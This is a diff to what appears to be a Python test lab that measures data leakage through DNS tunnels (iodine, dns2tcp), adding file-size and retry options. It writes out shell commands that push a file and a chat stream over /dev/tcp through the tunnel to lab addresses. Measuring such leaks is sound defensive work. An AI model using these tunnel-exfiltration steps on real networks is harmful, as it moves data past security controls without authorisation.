@@ -27,7 +27,7 @@ _TUNNEL = f"t.{ZONE}"
 _SINK, _ENTRY = 9000, 2222
 _PASSWORD = "letmein"
 FILE = 100_000
-"""Octets of the file."""
+"""Octets of the file, unless it is said otherwise."""
 HEX_FILE = 2048
 TRICKLE = 20
 """Lines of the chat, of some 20 octets, ten a second."""
@@ -104,10 +104,13 @@ class Lab:
         asked = [line for line in self.lines() if line["event"] == "question"]
         return Leak(established, self.arrived(), len(asked), sum(line["octets"] for line in asked))
 
-    def try_out(self, tool: Tool, server: str = RESOLVER, *, patience: float = 30.0) -> Leak:
+    def try_out(
+        self, tool: Tool, server: str = RESOLVER, *, patience: float = 30.0, size: int = FILE, tries: int = 1
+    ) -> Leak:
         """Set up a tunnel and send a file and a chat through it. Returns what got out.
 
-        `patience` is how long the tool may take to set the tunnel up, and again for each transfer.
+        `patience` is how long the tool may take to set the tunnel up, and again for each transfer. One of which none
+        arrives is tried up to `tries` times: dns2tcp loses a connection now and then.
         """
         if tool is HEX:
             return self._hex(server, patience)
@@ -115,11 +118,15 @@ class Lab:
             return self.leak(established=False)
         target = f"10.99.0.1/{_SINK}" if tool.program == "iodine" else f"127.0.0.1/{_ENTRY}"
         data = self.folder / "file"
-        data.write_bytes(random.Random(1).randbytes(FILE))  # iodine compresses what it can
+        data.write_bytes(random.Random(1).randbytes(size))  # iodine compresses what it can
         chat = f'for i in $(seq {TRICKLE}); do echo "$i: hello, anybody?"; sleep 0.1; done'
         said = sum(len(f"{index}: hello, anybody?\n") for index in range(1, TRICKLE + 1))
-        self._send(f"cat {data} > /dev/tcp/{target}", FILE, patience)
-        self._send(f"({chat}) > /dev/tcp/{target}", FILE + said, patience)
+        for script, more in ((f"cat {data} > /dev/tcp/{target}", size), (f"({chat}) > /dev/tcp/{target}", said)):
+            before = self.arrived()
+            for _ in range(tries):
+                self._send(script, before + more, patience)
+                if self.arrived() > before:
+                    break
         return self.leak(established=tool.program == "iodine" or self.arrived() > 0)
 
     def _hex(self, server: str, patience: float) -> Leak:
